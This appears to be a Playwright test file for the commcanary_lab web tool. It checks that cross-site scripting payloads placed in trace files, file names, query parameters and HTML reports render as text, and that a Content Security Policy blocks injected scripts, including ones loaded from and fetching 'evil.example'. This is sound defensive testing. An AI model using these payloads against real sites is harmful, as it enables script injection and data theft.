"""Stored scripts: every text that a file can bring is a script here; every page, static page and notebook output is opened in Chromium."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

import commcanary_lab as lab
from apps.users import add_user
from commcanary_lab.canonical import canonical_bytes
from commcanary_lab.replay.fidelity_bundle import unpack
from commcanary_lab.review import Policy, history, history_html, html_report, sign_off
from commcanary_lab.simulate.backend import DEFAULT_BACKENDS, Backend
from commcanary_lab.workspace import Workspace
from tests.apps.served import Served
from tests.browser.conftest import PATIENCE_MS, ROOT, Server

#: Runs where it is put into a page unescaped, in a text or in an attribute.
SCRIPT = "<img src=x onerror=window.__xss=1>\"'><svg onload=window.__xss=1>"
#: The same as part of the name of a file.
NAME = "<img src=x onerror=window.__xss=1>\"'"

#: What a payload makes of a page, in all shadow roots: the elements, and whether one of them ran.
_TRACES = """() => {
  let found = 0;
  const walk = (r) => { for (const e of r.querySelectorAll('*')) {
    if ((e.tagName === 'IMG' && e.getAttribute('src') === 'x') || (e.hasAttribute('onload') && e.tagName.toLowerCase() === 'svg')) found++;
    if (e.shadowRoot) walk(e.shadowRoot) } };
  walk(document);
  return [found, window.__xss === undefined] }"""
_TEXT = """() => { let out = '';
  const walk = (r) => { for (const e of r.childNodes) { if (e.nodeType === 3) out += e.data; else { if (e.shadowRoot) walk(e.shadowRoot);
    if (!['SCRIPT', 'STYLE'].includes(e.tagName)) walk(e) } } };
  walk(document.body); return out }"""


def hostile_trace(custom: bool) -> dict[str, Any]:
    """A trace whose every free text is a script."""
    ops = [{"op": f"{SCRIPT}op", "custom_op": True}] if custom else [{"op": "all_reduce"}, {"op": "all_gather"}]
    events = [
        {**ops[i % len(ops)], "bytes": 1 << (10 + i % 9), "ranks": 4, "group": f"{SCRIPT}group", "phase": f"{SCRIPT}phase{i % 2}",
         "tag": f"{SCRIPT}tag",
         "start_us": 100.0 * i, "duration_us": 20.0 + i % 7, "arrival_skew_us": 1.0 + i % 3, "compute_overlap_us": 2.0}
        for i in range(40)
    ]  # fmt: skip
    section = {"notes": [f"{SCRIPT}note"], "warnings": [f"{SCRIPT}warning"], "source_format": f"{SCRIPT}format"}
    return {"format": "commcanary.trace.v1", "events": events, f"{SCRIPT}field": 1, "system": {"commcanary_lab": section, SCRIPT: SCRIPT}}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    w = Workspace(tmp_path_factory.mktemp("hostile"))
    (w.path / f"{NAME}.json").write_text(json.dumps(hostile_trace(custom=False)))
    (w.path / f"{NAME}.custom.json").write_text(json.dumps(hostile_trace(custom=True)))
    (w.path / f"{NAME}.broken.json").write_text('{"format": "' + SCRIPT.replace('"', '\\"') + '"')
    trace = w.trace(f"{NAME}.json")
    lab.write(lab.compile(trace, records=4), w.path / f"{NAME}.canary.json")
    reports = []
    for i, backend in enumerate(DEFAULT_BACKENDS[:2]):
        document = lab.simulate(trace, backend).to_json()
        document["source"] = {"trace": f"{SCRIPT}source"}
        (w.path / f"{NAME}.{i}.report.json").write_bytes(canonical_bytes(document))
        reports.append(w.report(f"{NAME}.{i}.report.json"))
    found = lab.compare(*reports, Policy())
    (w.path / f"{NAME}.comparison.json").write_bytes(canonical_bytes(found.to_json()))
    signed = sign_off(found, "approve", names=(f"{SCRIPT}a", f"{SCRIPT}b"), reviewer=f"{SCRIPT}me", note=f"{SCRIPT}\n{SCRIPT}note")
    (w.path / f"{NAME}.signoff.json").write_bytes(signed.to_bytes())
    (w.path / f"{NAME}.ledger.json").write_bytes(canonical_bytes(lab.reduce(trace, budget=8).ledger()))
    (w.path / "backends.toml").write_text(f"[backends.{json.dumps(SCRIPT)}]\nbandwidth_gbps = 70\n")
    campaign = w.path / "campaigns" / NAME
    evidence = tmp_path_factory.mktemp("evidence") / "unpacked"
    unpack(ROOT / "data" / "samples" / "fidelity_campaign" / "evidence.tar.xz", evidence)
    shutil.copytree(next(m.parent for m in sorted(evidence.rglob("manifest.json"))), campaign)
    manifest = json.loads((campaign / "manifest.json").read_text())
    os.chmod(campaign / "manifest.json", 0o644)
    (campaign / "manifest.json").write_text(json.dumps({**manifest, "name": f"{SCRIPT}campaign", "torch": SCRIPT}))
    return w


@pytest.fixture(scope="module")
def hostile_server(hostile: Workspace) -> Iterator[Server]:
    running = Server(hostile.path)
    yield running
    running.stop()


def harmless(page: Any) -> None:
    """Nothing of a payload became an element, and none ran."""
    page.wait_for_timeout(600)
    assert page.evaluate(_TRACES) == [0, True]


#: Pages, their tabs, and words that only they have.
_PAGES = {
    "overview": ("Overview", "Import coverage"),
    "traffic": ("Traffic", "Links"),
    "timeline": ("Timeline", "events in view"),
    "canary": ("Canary", "What this canary reveals"),
    "ablation": ("Ablation", "simulator control"),
    "ranking": ("Ranking", "decisions"),
    "minimise": ("Minimise", "ddmin"),
    "replay": ("Replay", "Campaigns"),
    "review": ("Review", "Change against the policy"),
}


def test_no_page_runs_what_its_files_say(watched: Any, hostile_server: Server) -> None:
    """All pages one after another, in one session, by their tabs; each shows the texts as texts."""
    from urllib.parse import urlencode

    page = watched
    names = {"trace": f"{NAME}.json", "canary": f"{NAME}.canary.json", "ledger": f"{NAME}.ledger.json", "theme": SCRIPT, "metric": SCRIPT}
    page.goto(f"{hostile_server.url}?{urlencode({'page': 'overview', **names})}")
    for name, (tab, words) in _PAGES.items():
        page.get_by_role("tab", name=tab).click()
        page.locator("[data-testid=answer]:visible, .cl .empty:visible, .cl .box:visible").first.wait_for()
        expect(page.get_by_text(words).first).to_be_visible()
        harmless(page)
        assert "<img src=x" in page.evaluate(_TEXT), f"the texts are not shown on {name}"


def test_documents_and_wrong_choices_show_texts(watched: Any, hostile_server: Server) -> None:
    from urllib.parse import urlencode

    page = watched
    for query in (
        {"page": "review", "comparison": f"{NAME}.comparison.json"},
        {"page": "review", "baseline": SCRIPT, "candidate": SCRIPT},
        {"page": "overview", "trace": SCRIPT, "policy": SCRIPT},
        {"page": "overview", "trace": f"{NAME}.custom.json"},
        {"page": "overview", "trace": f"{NAME}.broken.json"},
        {"page": "replay", "replay": SCRIPT},
        {"page": "replay", "campaign": NAME},
    ):
        page.goto(f"{hostile_server.url}?{urlencode(query)}")
        page.locator("[data-testid=answer], .cl .empty, .cl .box").first.wait_for()
        harmless(page)


def test_a_script_in_a_page_would_not_run(page: Any, hostile_server: Server) -> None:
    """The second wall: what came into a page all the same is stopped by the content policy."""
    blocked: list[str] = []
    page.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(hostile_server.url)
    page.get_by_test_id("answer").wait_for(timeout=PATIENCE_MS)
    page.evaluate("""() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__xss=1">');
      const s = document.createElement('script'); s.textContent = 'window.__xss = 2'; document.body.append(s);
      const a = document.createElement('a'); a.href = 'javascript:window.__xss=3'; document.body.append(a); a.click();
      const e = document.createElement('script'); e.src = 'https://evil.example/x.js'; document.body.append(e);
      fetch('https://evil.example/').catch(() => {}) }""")
    page.wait_for_timeout(1500)
    assert page.evaluate("() => window.__xss") is None
    assert len(blocked) >= 5, blocked


def test_static_pages_and_notebook_outputs(page: Any, hostile: Workspace, tmp_path: Path) -> None:
    """Opened as files, where no server sends a policy."""
    w = hostile
    trace, canary = w.trace(f"{NAME}.json"), w.canary(f"{NAME}.canary.json")
    reports = [w.report(f"{NAME}.{i}.report.json") for i in range(2)]
    found = lab.compare(*reports, Policy())
    bad = Backend(SCRIPT, bandwidth_gbps=40.0)
    results = [trace, w.trace(f"{NAME}.custom.json"), canary, found, lab.simulate(trace, bad), lab.verify(trace, canary), lab.ops(trace),
               lab.traffic(trace), lab.reduce(trace, budget=8)]  # fmt: skip
    parts = [str(r._repr_html_()) for r in results if hasattr(r, "_repr_html_")]
    assert len(parts) >= 8
    pages = {
        "notebook.html": "<!doctype html><meta charset=utf-8>" + "".join(parts),
        "review.html": html_report(found, names=(f"{SCRIPT}a", f"{SCRIPT}b")),
    }
    pages["history.html"] = history_html(history([(f"{SCRIPT}{i}", r) for i, r in enumerate(reports)]))
    for name, text in pages.items():
        (tmp_path / name).write_text(text, "utf-8")
        page.goto((tmp_path / name).as_uri())
        harmless(page)
        assert re.search("<img src=x", page.evaluate(_TEXT)), name


def test_logging_in_and_out(browser: Any, tmp_path: Path) -> None:
    """In a browser, which sends origins and keeps cookies by its own rules."""
    add_user(tmp_path / "users.json", "vera", "viewer", "a long password of vera")
    (tmp_path / "w").mkdir()
    shutil.copy(ROOT / "data" / "samples" / "gloo4.json", tmp_path / "w")
    running = Served(tmp_path / "w", "--users", str(tmp_path / "users.json"))
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    try:
        page = context.new_page()
        page.set_default_timeout(PATIENCE_MS)
        page.goto(running.url)
        page.get_by_label("Name").fill("vera")
        page.get_by_label("Password").fill("a wrong password")
        page.get_by_role("button", name="Log in").click()
        page.get_by_text("The name or the password is wrong.").wait_for()
        page.get_by_label("Name").fill("vera")
        page.get_by_label("Password").fill("a long password of vera")
        page.get_by_role("button", name="Log in").click()
        page.get_by_test_id("answer").wait_for()
        chip = page.get_by_test_id("account")
        expect(chip).to_contain_text("vera")
        expect(chip).to_contain_text("viewer")
        box = page.get_by_role("link", name="Log out").bounding_box()
        assert box is not None
        assert box["x"] + box["width"] < 1366
        assert not page.evaluate("() => document.cookie").count("user")
        page.get_by_role("link", name="Log out").click()
        page.get_by_text("You are logged out").wait_for()
        page.goto(running.url)
        page.get_by_role("button", name="Log in").wait_for()
    finally:
        context.close()
        running.stop()
